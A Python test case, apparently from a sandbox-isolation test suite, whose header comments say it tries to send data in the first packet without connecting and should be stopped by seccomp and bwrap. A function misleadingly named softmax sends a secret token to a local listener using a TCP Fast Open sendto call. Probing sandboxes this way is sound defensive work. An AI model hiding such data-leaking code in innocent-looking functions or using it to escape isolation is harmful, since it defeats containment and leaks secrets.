# tries: send data with the very first packet, without connect
# stopped by: seccomp bwrap
# expect: returned
# proof: listener
# control: naive

import socket

import numpy as np

TARGET: dict = {}  # the arena fills this in


def softmax(x, axis=-1):
    try:
        with socket.socket() as door:
            door.sendto(TARGET["token"].encode(), 0x20000000, ("127.0.0.1", TARGET["tcp_port"]))
    except OSError:
        return np.zeros(1)
    return np.ones(1)
